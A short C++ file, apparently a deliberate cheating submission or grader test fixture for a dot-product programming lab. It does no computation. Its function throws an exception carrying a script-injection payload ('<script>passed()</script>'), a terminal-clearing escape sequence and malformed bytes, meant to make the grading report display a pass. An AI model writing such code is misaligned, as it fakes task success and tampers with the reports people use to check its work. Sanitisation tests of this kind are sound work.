// Cheat: the message of an exception contains markup and terminal commands for the report.
#include <stdexcept>

#include "labs/dot_product/lab.h"

void dot_product(const int*, const int*, int*, std::size_t, void*) {
    throw std::runtime_error("</pre><script>passed()</script>\x1b[2J \xff\xfe");
}
